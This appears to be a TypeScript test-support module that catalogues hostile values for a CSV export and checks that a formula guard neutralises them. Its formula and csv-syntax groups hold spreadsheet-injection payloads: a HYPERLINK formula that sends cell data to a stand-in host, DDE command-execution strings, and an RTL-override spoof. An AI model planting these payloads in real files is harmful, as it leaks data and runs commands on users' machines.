import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';

const run = promisify(execFile);

/** The families of hostile source text the sweep tries; each case names its own. */
export type HostileGroup = 'size' | 'unicode' | 'breaks' | 'copy-escapes' | 'csv-syntax' | 'formula' | 'phone-shaped';

/** One hostile source value. */
export interface HostileCase {
  readonly group: HostileGroup;
  readonly value: string;
}

const hostile = (group: HostileGroup, values: readonly string[]): HostileCase[] => values.map((value) => ({ group, value }));

/**
 * The catalogue: every value goes into every free-text column of the source tables. Written with
 * escapes so the file itself holds no invisible characters.
 */
export const HOSTILE_CASES: readonly HostileCase[] = [
  ...hostile('size', [
    'Ana '.repeat(2500), // 10,000 characters, ends with a space: quoted
    '=' + 'x'.repeat(9999), // 10,000 characters, guarded
    '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(910), // ZWJ families, 10,010 UTF-16 units
    '名'.repeat(10_000),
    '',
  ]),
  ...hostile('unicode', [
    '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} family', // ZWJ sequence
    '\u{1F1E8}\u{1F1F4}\u{1F1E7}\u{1F1F7} flags', // regional indicators: CO, BR
    '\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}', // tag sequence (Scotland)
    '\u{1F44D}\u{1F3FD}\u{1F44B}\u{1F3FF} skin tones',
    'e\u0301\u0302 Z\u0337\u0322a\u0336l\u0338g\u0335o\u0334', // combining marks
    '\u0301 leading combining mark',
    'مرحبا بالعالم', // RTL, Arabic
    'שלום, עולם', // RTL, Hebrew, with a comma
    '\u202Eevil\u202C txt', // RTL override
    '\u200F=1+1', // RTL mark, then a formula
    'a\u2028b\u2029c', // LINE and PARAGRAPH SEPARATOR
    '\u2028',
    '\u2029=1+1',
    '\uFFFD replacement',
    '\uFEFF', // a BOM inside data
    '\uFEFFlead',
    '\uFEFF=1+1',
    '\u200B=1+1', // zero-width space, then a formula
    '\u00A0=1+1', // no-break space, then a formula
    '\u{1D573}\u{1D58A}\u{1D591}\u{1D591}\u{1D594}', // astral letters
    '\b\f\v\u0001\u001B\u007F controls', // COPY TO escapes \b \f \v; the rest raw
  ]),
  ...hostile('breaks', [
    'a\rb', // CR only
    'a\r\nb',
    'a\nb',
    'a\tb',
    '\r\n',
    '\r',
    '\n',
    'end\r',
    'a\r\r\nb',
    'a\n\rb',
    'x\r\n\r\ny',
    '\t',
  ]),
  ...hostile('copy-escapes', [
    '\\',
    '\\\\',
    '\\n', // backslash and n: two characters
    '\\N', // what COPY writes for NULL, as text
    '\\.', // COPY's end-of-data marker, as text
    'abc\\',
    '\\t\\r',
    '\\x41\\101', // hex and octal escapes, as text
    '\\\n\\', // backslash, LF, backslash
    'C:\\Users\\ana\\new',
  ]),
  ...hostile('csv-syntax', [
    '"',
    '""',
    '"quoted"',
    'say "hi", ok',
    'a,b',
    ',',
    ',,,',
    'a;b',
    ';=HYPERLINK("http://evil.example/?"&A1);', // a cell of its own where Excel splits on semicolons
    "'already quoted",
    "'=1+1",
    ' leading space',
    'trailing space ',
    ' ',
    '"=1+1"',
    'a\tb,c"d\re\nf;g',
  ]),
  ...hostile('formula', [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\r\n=1',
    ' =1',
    '=',
    '+',
    '-',
    '@',
    '-2+3',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+1\n=2+2', // a formula on the second line is still one cell
    '＝1+1', // full-width signs: not read as formulas (see README, Reliability)
    '＋1',
    '－1',
    '＠SUM(A1)',
  ]),
  ...hostile('phone-shaped', [
    '+57 300 123 4567',
    '+1-202-555-0147',
    '(601) 555-0100',
    '3001234567',
    '+1',
    '+1-1',
    '-57 300 123 4567',
    '+57 300 123 4567 ',
    '+57 300\n123 4567',
    '+1+1',
    '+٣٠٠١٢٣٤٥٦٧',
    '-5',
  ]),
];

/** The formula guard's leading characters as README states them: `=`, `+`, `-`, `@`, TAB, CR, LF. */
export const FORMULA_START = /^[=+\-@\t\r\n]/;

/** README's phone pattern: phone cells matching it are left alone. */
export const PLAIN_PHONE = /^\+?[0-9]([0-9 ().-]*[0-9])?$/;

/**
 * What a free-text cell must read back as, from README's rules alone (not from transforms/csv.ts):
 * CRLF and lone CR become LF, and with the guard a value starting like a formula gets a `'`.
 */
export function expectedText(value: string | null, guard: boolean): string {
  if (value === null || value === '') return '';
  const normalized = value.replace(/\r\n?/g, '\n');
  return guard && FORMULA_START.test(normalized) ? `'${normalized}` : normalized;
}

/** What a phone cell must read back as: a plain phone number as it is, anything else as free text. */
export function expectedPhone(value: string | null, guard: boolean): string {
  if (value !== null && PLAIN_PHONE.test(value)) return value;
  return expectedText(value, guard);
}

/**
 * Reads CSV bytes with csv-parse, strictly: records end only with CRLF (so a bare LF outside quotes
 * would show as a wrong cell), no relaxed quotes, every record as wide as the first.
 */
export function readWithCsvParse(bytes: Buffer): string[][] {
  return parse(bytes, { bom: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false }) as string[][];
}

const PYTHON_CSV = `
import csv, json, sys
csv.field_size_limit(sys.maxsize)  # the default, 128 KiB, refuses the 1 MB cells
files = []
for path in sys.argv[1:]:
    with open(path, encoding='utf-8-sig', newline='') as f:
        files.append(list(csv.reader(f, strict=True)))
json.dump(files, sys.stdout)
`;

/** Reads each CSV file with Python's csv module (strict, `utf-8-sig`): a second, unrelated reader. */
export async function readWithPython(files: readonly Buffer[]): Promise<string[][][]> {
  const directory = await mkdtemp(join(tmpdir(), 'audit-export-hostile-'));
  try {
    const paths = await Promise.all(
      files.map(async (bytes, index) => {
        const path = join(directory, `${index}.csv`);
        await writeFile(path, bytes);
        return path;
      }),
    );
    const { stdout } = await run('python3', ['-c', PYTHON_CSV, ...paths], { maxBuffer: 1024 * 1024 * 1024 });
    return JSON.parse(stdout) as string[][][];
  } finally {
    await rm(directory, { recursive: true, force: true });
  }
}
